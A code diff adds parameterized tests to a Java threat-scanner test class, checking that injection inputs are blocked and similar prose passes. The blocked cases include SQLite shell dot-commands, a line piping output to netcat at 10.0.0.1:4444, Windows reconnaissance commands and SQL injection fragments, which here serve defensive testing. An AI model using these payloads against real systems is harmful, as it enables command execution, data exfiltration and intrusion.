@@ -640,6 +640,41 @@ class ThreatScannerTest {
 
   @ParameterizedTest(name = "{0}")
   @CsvSource(
+      delimiter = '^',
+      quoteCharacter = '~',
+      value = {
+        "SQLite's shell dot-command          ^ ;.shell ls",
+        "SQLite's system dot-command, alone  ^ .system id",
+        "SQLite output piped to a program    ^ 1;.output |nc 10.0.0.1 4444",
+        "a script read through a pipe        ^ .read '|id'",
+        "a Windows group listed              ^ & net localgroup administrators",
+        "a Windows service queried           ^ sc queryex wuauserv",
+        "USER compared after a closed string ^ ' and user like 'r%",
+        "USER compared, or                   ^ ' or user like '%"
+      })
+  @DisplayName("SQLite dot-commands, net localgroup and SQL's USER as an operand are blocked")
+  void moreCommandAndSqlClasses(String what, String value) {
+    assertThat(scanner.scan(value).blocked()).as(what).isTrue();
+  }
+
+  @ParameterizedTest(name = "{0}")
+  @CsvSource(
+      delimiter = '|',
+      quoteCharacter = '~',
+      value = {
+        "a dot-file named in prose       | the .system file is in the repo",
+        "a pipe in prose                 | output | once more",
+        "net figures after a separator   | Q3 results; net user growth",
+        "a user in a sentence            | filter by user = alice and user like bob",
+        "USER without a closed string    | 1 and user=1"
+      })
+  @DisplayName("prose near the SQLite, net and USER classes passes")
+  void moreCommandAndSqlClassesProse(String what, String value) {
+    assertThat(scanner.scan(value).threat()).as(what).isFalse();
+  }
+
+  @ParameterizedTest(name = "{0}")
+  @CsvSource(
       delimiter = '|',
       quoteCharacter = '~',
       value = {
